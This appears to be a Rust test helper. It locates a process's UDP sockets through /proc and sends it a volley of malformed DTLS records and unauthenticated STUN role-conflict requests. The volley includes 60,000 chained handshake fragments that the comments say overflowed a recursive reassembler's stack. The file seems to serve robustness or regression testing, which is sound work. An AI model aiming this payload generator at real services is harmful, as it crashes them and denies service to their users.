//! What somebody can send who knows where a program's sockets are, and nothing else.

use std::fs;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::thread::sleep;
use std::time::Duration;

use anyhow::Context;

/// The UDP sockets of a process that are bound to a port, as an attacker on the same machine reaches them.
///
/// # Errors
///
/// The process is gone, or not ours.
pub fn udp_sockets(pid: u32) -> anyhow::Result<Vec<SocketAddr>> {
    let mut inodes = Vec::new();
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))? {
        // A file that was closed meanwhile.
        let Ok(target) = fs::read_link(entry?.path()) else { continue };
        let target = target.to_string_lossy().into_owned();
        if let Some(inode) = target.strip_prefix("socket:[") {
            inodes.push(inode.trim_end_matches(']').to_owned());
        }
    }
    let mut found = Vec::new();
    for table in ["udp", "udp6"] {
        let table = fs::read_to_string(format!("/proc/{pid}/net/{table}"))?;
        for line in table.lines().skip(1) {
            let words: Vec<&str> = line.split_ascii_whitespace().collect();
            let (Some(local), Some(inode)) = (words.get(1), words.get(9)) else { continue };
            if inodes.iter().any(|known| known == inode) {
                found.push(address(local).with_context(|| format!("{local} is no address"))?);
            }
        }
    }
    Ok(found)
}

/// An address as `/proc/net/udp` has it: words of 32 bits in the machine's order, in hexadecimal.
fn address(text: &str) -> Option<SocketAddr> {
    let (ip, port) = text.split_once(':')?;
    let words: Option<Vec<[u8; 4]>> = (0..ip.len() / 8)
        .map(|n| Some(u32::from_str_radix(ip.get(n * 8..n * 8 + 8)?, 16).ok()?.to_ne_bytes()))
        .collect();
    let ip: IpAddr = match words?.as_slice() {
        [v4] => Ipv4Addr::from(*v4).into(),
        v6 => Ipv6Addr::from(<[u8; 16]>::try_from(v6.concat()).ok()?).into(),
    };
    let ip = match ip {
        IpAddr::V4(ip) if ip.is_unspecified() => Ipv4Addr::LOCALHOST.into(),
        IpAddr::V6(ip) if ip.is_unspecified() => Ipv6Addr::LOCALHOST.into(),
        ip => ip,
    };
    Some(SocketAddr::new(ip, u16::from_str_radix(port, 16).ok()?))
}

/// Resident memory of a process, bytes.
///
/// # Errors
///
/// The process is gone.
pub fn resident_bytes(pid: u32) -> anyhow::Result<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status"))?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).context("no VmRSS")?;
    let kib: u64 = line.trim().trim_end_matches(" kB").parse()?;
    Ok(kib * 1024)
}

/// A record of DTLS 1.2 (RFC 6347 §4.1).
fn record(content_type: u8, epoch: u16, sequence: u64, body: &[u8]) -> Vec<u8> {
    let mut record = vec![content_type, 0xfe, 0xfd];
    record.extend(epoch.to_be_bytes());
    record.extend_from_slice(&sequence.to_be_bytes()[2..]);
    record.extend((body.len() as u16).to_be_bytes());
    record.extend_from_slice(body);
    record
}

/// Records with [`FRAGMENTS`] fragments of one handshake message: each is the piece of one byte that another one
/// follows, none has a byte, and the first comes last. What puts them together by recursion overflows its stack.
fn fragments(message_sequence: u16) -> Vec<Vec<u8>> {
    let offsets: Vec<u32> = (0..=FRAGMENTS).rev().collect();
    let records = offsets.chunks(100).enumerate().map(|(sequence, offsets)| {
        let mut body = Vec::new();
        for offset in offsets {
            // Certificate, of length 0.
            body.extend([11, 0, 0, 0]);
            body.extend(message_sequence.to_be_bytes());
            body.extend_from_slice(&offset.to_be_bytes()[1..]);
            body.extend([0, 0, 1]);
        }
        record(22, 0, 1000 + sequence as u64, &body)
    });
    records.collect()
}

/// A Binding request without integrity that says which role its sender has, with the highest tie-breaker or the
/// lowest (RFC 8445 §7.3.1.1).
fn role_request(controlling: bool, tie_breaker: u64) -> Vec<u8> {
    let mut request = vec![0, 1, 0, 12, 0x21, 0x12, 0xa4, 0x42];
    request.extend([7; 12]);
    request.extend([0x80, if controlling { 0x2a } else { 0x29 }, 0, 8]);
    request.extend(tie_breaker.to_be_bytes());
    request
}

/// Everything that a stranger knows to send, once: the fragments for each message that may be the next,
/// records of the next epoch, records with a sequence number that is far ahead, alerts, and connectivity checks without a
/// password.
pub fn volley() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = (0..8).flat_map(fragments).collect();
    all.extend((0..1000).map(|sequence| record(23, 1, sequence, &[0; 1000])));
    all.push(record(22, 0, 0xffff_ffff_ffff, &[1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0]));
    // handshake_failure, fatal (RFC 5246 §7.2), and a content type that there is none of.
    all.push(record(21, 0, 0, &[2, 40]));
    all.push(record(99, 0, 0, &[1]));
    for controlling in [true, false] {
        all.extend([0, u64::MAX].map(|tie_breaker| role_request(controlling, tie_breaker)));
    }
    all
}

/// Sends `datagrams` from a socket of its own to each of `targets`, slowly enough that what else comes there still
/// fits into the receiver's buffer: some 4 MB/s.
///
/// # Errors
///
/// No socket can be bound.
pub fn send_to_each(targets: &[SocketAddr], datagrams: &[Vec<u8>]) -> anyhow::Result<()> {
    for target in targets {
        let any: IpAddr = if target.is_ipv4() {
            Ipv4Addr::UNSPECIFIED.into()
        } else {
            Ipv6Addr::UNSPECIFIED.into()
        };
        let socket = UdpSocket::bind((any, 0))?;
        for some in datagrams.chunks(20) {
            for datagram in some {
                // Who is gone refuses.
                let _ = socket.send_to(datagram, target);
            }
            sleep(Duration::from_millis(5));
        }
    }
    Ok(())
}

/// As many as overflowed the stack of the network thread.
const FRAGMENTS: u32 = 60_000;
